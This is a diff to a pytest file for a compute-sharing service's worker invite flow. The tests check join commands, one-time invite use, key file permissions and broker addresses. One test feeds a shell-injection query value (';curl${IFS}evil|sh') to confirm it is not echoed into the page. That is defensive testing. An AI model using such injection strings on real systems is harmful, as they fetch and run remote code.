@@ -49,7 +49,8 @@ def path_of(made: dict[str, str]) -> str:
 
 def test_an_invite_says_what_to_type_and_shows_its_code_once(client: TestClient) -> None:
     made = invite(client)
-    assert made["command"] == f"computeshare-worker --queue mnist --join {made['url']}"
+    base, _, code = made["url"].rpartition("/join/")
+    assert made["command"] == f"computeshare-worker --join {base}#{code}"
     assert made["qr"].startswith("data:image/svg+xml")
     shown = client.get(f"/v1/invites/{made['id']}").json()
     assert (shown["status"], shown["worker"], shown.get("url")) == ("pending", None, None)
@@ -73,8 +74,10 @@ def test_exchange_over_loopback_gives_the_broker_and_the_next_start_keeps_it(
     headers = {"Authorization": f"Bearer {settings.ensure_token()}"}
     with httpx2.Client(base_url=url, headers=headers) as owner:
         made = owner.post("/v1/invites", json={"queue": "mnist"}).json()
-        assert join(made["url"], "anna's mac", tmp_path / "worker") == settings.redis_url
-        assert join(made["url"], "anna's mac", tmp_path / "worker") == settings.redis_url  # as when it starts again
+        assert join(made["url"], "anna's mac", tmp_path / "worker").redis_url == settings.redis_url
+        assert (
+            join(made["url"], "anna's mac", tmp_path / "worker").redis_url == settings.redis_url
+        )  # as when it starts again
         with pytest.raises(SettingsError, match="was already used"):
             join(made["url"], "another", tmp_path / "other")
         shown = owner.get(f"/v1/invites/{made['id']}").json()
@@ -101,7 +104,7 @@ def test_an_answer_that_was_lost_is_given_again_to_the_same_machine_and_to_no_ot
             join(link, "mac", tmp_path / "worker")
     with pytest.raises(SettingsError, match="was already used"):
         join(link, "mac", tmp_path / "other")
-    assert join(link, "mac", tmp_path / "worker") == settings.redis_url
+    assert join(link, "mac", tmp_path / "worker").redis_url == settings.redis_url
     assert (tmp_path / "worker" / "joining.key").stat().st_mode & 0o077 == 0
 
 
@@ -141,7 +144,7 @@ def test_a_machine_has_joined_once_it_is_heard_of_on_the_queue(database: Databas
 def test_what_stands_behind_the_link_is_not_in_the_command(client: TestClient) -> None:
     made = invite(client)
     page = client.get(f"{path_of(made)}?x=;curl${{IFS}}evil|sh", headers={"accept": "text/html"})
-    assert f"--join {made['url']}<" in page.text and "evil" not in page.text
+    assert f"{made['command']}<" in page.text and "evil" not in page.text
 
 
 def test_invited_machines_get_the_address_that_is_meant_for_them(tmp_path: Path, redis_url: str) -> None:
@@ -151,7 +154,10 @@ def test_invited_machines_get_the_address_that_is_meant_for_them(tmp_path: Path,
         made = invite(client)
         del client.headers["authorization"]
         given = client.post(path_of(made), json={"name": "anna's mac"}).json()
-    assert given == {"redis_url": "rediss://b.example:6379", "queue": "mnist"}
+    assert {name: value for name, value in given.items() if value} == {
+        "redis_url": "rediss://b.example:6379",
+        "queue": "mnist",
+    }
 
 
 def test_a_name_that_only_the_brokers_network_knows_is_warned_of(database: Database) -> None:
